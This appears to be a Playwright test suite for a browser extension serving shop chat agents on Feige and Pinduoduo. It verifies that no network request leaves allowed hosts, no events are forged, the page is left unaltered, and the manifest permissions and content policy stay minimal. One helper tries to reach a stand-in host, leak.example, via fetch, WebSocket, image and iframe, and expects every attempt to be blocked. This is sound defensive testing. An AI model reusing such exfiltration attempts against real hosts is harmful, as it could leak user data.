import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Page, Worker } from '@playwright/test';
import { knownConsoles } from '../../lib/consoles/known';
import { openFixture } from '../consoles/play';
import { play } from '../run/play';
import { build, type ConsoleId, expect, launchWithExtension, test, workerOf } from '../support/extension';
import { overlayOf, press, readOverlay, waitForWorry } from '../support/overlay';
import { ownHtml } from '../support/own-html';
import { startFixtureServer } from '../support/server';
import { draft, forged, places, readyCard, settled, write } from '../support/way';

const ids = ['feige', 'pinduoduo'] as const;
const worry = '这个也太贵了吧，能不能便宜点';

/** From the first look to the payment, as an agent goes it; gives what the agent sent. */
async function goWholeWay(page: Page, id: ConsoleId): Promise<string> {
  const { first, firstName, second, box } = places[id];
  const frame = await overlayOf(page);
  await page.evaluate((buyer) => window.fixture.open(buyer), first);
  await write(page, first, worry);
  const card = readyCard(await waitForWorry(frame, firstName, '嫌贵'));
  await page.locator(box).focus();
  await press(page, `card.${card.number}`);
  await expect.poll(() => draft(page)).toBe(card.text);
  await press(page, 'search');
  await frame.getByRole('combobox').waitFor();
  await page.keyboard.press('Escape');
  for (const outcome of ['outcome.ordered', 'outcome.paid', 'outcome.undo'] as const) await press(page, outcome);
  await expect.poll(async () => (await readOverlay(frame)).notice).toContain('已撤销');
  expect(await page.evaluate(() => window.fixture.sent)).toEqual([]);
  // The agent's own hand.
  await page.locator(box).press('Enter');
  await page.evaluate((buyer) => window.fixture.open(buyer), second);
  await settled(page);
  return card.text;
}

/** The same conversation without us. */
async function goAlone(page: Page, id: ConsoleId, sent: string): Promise<void> {
  const { first, second, box } = places[id];
  await page.evaluate((buyer) => window.fixture.open(buyer), first);
  await write(page, first, worry);
  await settled(page);
  await page.locator(box).focus();
  await page.keyboard.insertText(sent);
  await page.locator(box).press('Enter');
  await page.evaluate((buyer) => window.fixture.open(buyer), second);
  await settled(page);
}

/** Every event that could send something, in a page without a recorder of its own. */
function recordForged(): void {
  const made: string[] = [];
  Object.assign(window, { made });
  const types = ['keydown', 'keypress', 'keyup', 'click', 'mousedown', 'mouseup', 'pointerdown', 'pointerup', 'submit'];
  for (const type of types) window.addEventListener(type, (event) => event.isTrusted || made.push(type), true);
}

/** Whatever asked the browser's network for anything, the worker included: from the browser's own log, its own errands left out. */
function readNetLog(file: string): string[] {
  const { events } = JSON.parse(readFileSync(file, 'utf8')) as {
    events: { params?: { url?: string; initiator?: string } }[];
  };
  return events.flatMap(({ params: { url, initiator } = {} }) =>
    url && initiator && initiator !== 'not an origin' ? [`${initiator} → ${url}`] : [],
  );
}

async function visitPages(context: BrowserContext, origin: string): Promise<void> {
  const popup = await context.newPage();
  await popup.goto(`${origin}/popup.html`);
  await Promise.all([popup.waitForEvent('download'), popup.getByRole('button', { name: '导出今天日报' }).click()]);
  for (const section of ['data', 'scripts', 'settings']) {
    await popup.goto(`${origin}/workbench.html#${section}`);
    await popup.getByRole('heading', { level: 1 }).waitFor();
  }
  const page = await context.newPage();
  await page.addInitScript(recordForged);
  await play(page, `${origin}/practice.html`);
  expect(await page.evaluate(() => (window as unknown as { made: string[] }).made)).toEqual([]);
}

test('the whole way, everywhere: no request leaves, no event is made up, the page stays as it was', async ({
  context: _,
}, info) => {
  const server = await startFixtureServer();
  const netLog = info.outputPath('net.json');
  const context = await launchWithExtension({ server, args: [`--log-net-log=${netLog}`] });
  const bare = await launchWithExtension({ server, extension: null });
  const origin = `chrome-extension://${new URL((await workerOf(context)).url()).host}`;
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  for (const id of ids) {
    const page = await context.newPage();
    await openFixture(page, id);
    const sent = await goWholeWay(page, id);
    const alone = await bare.newPage();
    await openFixture(alone, id);
    await goAlone(alone, id, sent);
    expect(await forged(page)).toEqual([]);
    expect(await page.evaluate(() => window.fixture.sent.map(({ text }) => text))).toEqual([sent]);
    const { strangers, html } = await ownHtml(page);
    expect(strangers, 'the host element').toBe(1);
    expect(html).toBe((await ownHtml(alone)).html);
  }
  await visitPages(context, origin);
  await Promise.all([context.close(), bare.close()]);
  await server.close();

  const fixtures =
    /^https:\/\/(im\.jinritemai\.com\/(pc_seller_v2|consoles)|mms\.pinduoduo\.com\/(chat-merchant|consoles))\//;
  expect(server.requests.filter((url) => !fixtures.test(url))).toEqual([]);
  expect(asked.filter((url) => !fixtures.test(url) && !/^(chrome-extension|blob|data):/.test(url))).toEqual([]);
  const logged = readNetLog(netLog);
  expect(logged, 'the log works').not.toEqual([]);
  const own = /^https:\/\/(im\.jinritemai|mms\.pinduoduo)\.com → (.*)$/;
  expect(logged.filter((line) => !fixtures.test(own.exec(line)?.[2] ?? ''))).toEqual([]);
});

/** Tries to reach `leak.example` by every way that a script has; gives those that did not fail. */
const tryToLeave = (target: Page | Worker): Promise<string[]> =>
  (target as Page).evaluate(async () => {
    const ways: Record<string, () => Promise<unknown>> = {
      fetch: () => globalThis.fetch('https://leak.example/fetch', { mode: 'no-cors' }),
      console: () => globalThis.fetch('https://im.jinritemai.com/leak'),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new globalThis.WebSocket('wss://leak.example/socket');
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      ...(typeof document === 'undefined'
        ? {}
        : {
            image: () =>
              new Promise((resolve, reject) => {
                Object.assign(new Image(), { onload: resolve, onerror: reject, src: 'https://leak.example/image' });
              }),
            frame: () =>
              new Promise((resolve, reject) => {
                document.addEventListener('securitypolicyviolation', reject, { once: true });
                const frame = Object.assign(document.createElement('iframe'), { src: 'https://leak.example/frame' });
                document.body.append(Object.assign(frame, { onload: resolve }));
              }),
          }),
    };
    const open: string[] = [];
    for (const [name, way] of Object.entries(ways)) {
      await way().then(
        () => open.push(name),
        () => {},
      );
    }
    return open;
  });

test('nothing of ours could open a connection if it tried', async ({ server }) => {
  // Without this a worker's request would fail at the fixture server's certificate, whatever the policy says.
  const context = await launchWithExtension({ server, args: ['--ignore-certificate-errors'] });
  const worker = await workerOf(context);
  expect(await tryToLeave(worker), 'worker').toEqual([]);
  const page = await context.newPage();
  for (const path of ['popup.html', 'workbench.html', 'practice.html', 'overlay.html', 'sidepanel.html']) {
    await page.goto(`chrome-extension://${new URL(worker.url()).host}/${path}`);
    expect(await tryToLeave(page), path).toEqual([]);
  }
  await context.close();
  expect(server.requests.filter((url) => url.includes('leak'))).toEqual([]);
});

test('the manifest asks for what is used and nothing else', () => {
  const manifest = JSON.parse(readFileSync(join(build, 'manifest.json'), 'utf8'));
  expect(manifest.permissions).toEqual([
    'storage',
    'unlimitedStorage',
    'scripting',
    'activeTab',
    'alarms',
    'sidePanel',
  ]);
  const scripts: { matches: string[]; js: string[] }[] = manifest.content_scripts;
  expect(manifest.host_permissions).toEqual(scripts.flatMap(({ matches }) => matches));
  expect(scripts.map(({ js }) => js)).toEqual(
    knownConsoles.map(({ id }) => [`consoles/${id}.js`, 'content-scripts/console.js']),
  );
  expect(manifest.optional_permissions).toEqual(['notifications']);
  // Asked for one site at a time, when the agent teaches it; nobody has them by installing.
  expect(manifest.optional_host_permissions).toEqual(['https://*/*', 'http://*/*']);
  expect(manifest.web_accessible_resources).toEqual([
    { resources: ['overlay.html'], matches: ['https://*/*', 'http://*/*'], use_dynamic_url: true },
  ]);
  expect(manifest).not.toHaveProperty('externally_connectable');
  const policy: string = manifest.content_security_policy.extension_pages;
  expect(policy.split('; ')).toEqual(
    expect.arrayContaining(["default-src 'none'", "connect-src 'none'", "script-src 'self'", "form-action 'none'"]),
  );
  expect(policy).not.toMatch(/https?:|\*|unsafe/);
});
